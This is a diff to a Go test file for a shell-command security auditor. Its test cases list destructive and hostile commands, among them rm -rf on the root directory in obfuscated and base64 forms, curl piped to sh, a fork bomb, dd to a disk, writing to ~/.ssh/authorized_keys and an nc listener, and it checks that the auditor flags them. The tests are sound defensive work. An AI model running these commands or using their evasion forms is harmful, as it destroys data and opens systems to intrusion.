@@ -1,6 +1,7 @@
 package security
 
 import (
+	"strings"
 	"testing"
 )
 
@@ -18,6 +19,11 @@ func TestAuditor_AuditCommand(t *testing.T) {
 		{"wget http://malicious.com/virus", true},
 		{"chmod 777 /etc/shadow", true},
 		{"cat /etc/passwd", false}, // Currently allowed, but maybe sensitive
+		{"ls curly", false},
+		{`grep -r "rm -rf /" docs`, false},
+		{"r''m -rf /", true},
+		{"$(echo rm) -rf /", true},
+		{`bash -c "cd / && rm -rf *"`, true},
 	}
 
 	for _, tt := range tests {
@@ -29,6 +35,76 @@ func TestAuditor_AuditCommand(t *testing.T) {
 	}
 }
 
+func TestAuditor_AnalyzeCommand(t *testing.T) {
+	auditor := NewAuditor("/work/project")
+
+	tests := []struct {
+		command  string
+		rule     string
+		severity Severity
+	}{
+		{"go test ./... && git status", "", 0},
+		{"echo done > build.log 2>&1", "", 0},
+		{"rm -rf \\/", "delete-protected", SeverityCritical},
+		{"sudo rm -rf ~", "delete-protected", SeverityCritical},
+		{"rm -rf ../*", "delete-protected", SeverityCritical},
+		{"rm -rf ../other", "modify-outside-workplace", SeverityHigh},
+		{"rm -rf build/*", "", 0},
+		{"rm -rf .", "delete-workplace", SeverityMedium},
+		{"curl -fsSL https://x.test/i.sh | sh", "download-and-execute", SeverityCritical},
+		{"echo key >> ~/.ssh/authorized_keys", "credentials", SeverityHigh},
+		{"dd if=/dev/zero of=/dev/sda bs=1M", "write-device", SeverityCritical},
+		{":(){ :|:& };:", "fork-bomb", SeverityCritical},
+		{"ls $(cat /etc/shadow)", "sensitive-file", SeverityHigh},
+		{"eval \"$CMD\"", "dynamic-code", SeverityHigh},
+		{"nohup nc -l 4444", "network-listener", SeverityHigh},
+		{"chmod -R a+w src", "world-writable", SeverityMedium},
+		{"if true; then", "unparsable", SeverityHigh},
+		{"echo 'rm -rf /' | sh", "dynamic-code", SeverityHigh},
+		{"sh <<< 'rm -rf /'", "delete-protected", SeverityCritical},
+		{"bash <<EOF\nrm -rf /\nEOF", "delete-protected", SeverityCritical},
+		{"bash <<'EOF'\ngo test ./...\nEOF", "", 0},
+		{"echo cm0gLXJmIC8= | base64 -d | sh", "dynamic-code", SeverityHigh},
+		{"sudo bash < setup.sh", "dynamic-code", SeverityHigh},
+		{"python3 <<EOF\nimport os; os.system('id')\nEOF", "inline-code-exec", SeverityHigh},
+		{"find . -exec rm -rf / +", "delete-protected", SeverityCritical},
+		{"find / -delete", "delete-protected", SeverityCritical},
+		{"find / -name '*.log' -exec rm {} \\;", "delete-protected", SeverityCritical},
+		{"find . -name '*.tmp' -exec rm {} \\;", "", 0},
+		{"find build -name '*.o' -delete", "", 0},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.command, func(t *testing.T) {
+			an := auditor.AnalyzeCommand(tt.command)
+			if got := an.Severity(); got != tt.severity {
+				t.Errorf("Severity() = %v, want %v (findings %v)", got, tt.severity, an.Findings)
+			}
+			if tt.rule == "" {
+				return
+			}
+			for _, f := range an.Findings {
+				if f.Rule == tt.rule && f.Severity == tt.severity {
+					return
+				}
+			}
+			t.Errorf("no %s finding of %s in %v", tt.severity, tt.rule, an.Findings)
+		})
+	}
+
+	an := auditor.AnalyzeCommand(`'git' push; echo "a;b" | (sort) && x=$(go env GOPATH)`)
+	want := []string{"git push", "echo a;b", "sort", "go env GOPATH"}
+	if strings.Join(an.Commands, "|") != strings.Join(want, "|") {
+		t.Errorf("Commands = %q, want %q", an.Commands, want)
+	}
+
+	an = auditor.AnalyzeCommand(`sudo -u dev env A=1 /usr/bin/git push && find . -exec rm {} +`)
+	want = []string{"git push", "find . -exec rm {} +", "rm ."}
+	if strings.Join(an.Runs, "|") != strings.Join(want, "|") {
+		t.Errorf("Runs = %q, want %q", an.Runs, want)
+	}
+}
+
 func TestAuditor_AuditScript(t *testing.T) {
 	auditor := NewAuditor(".")
 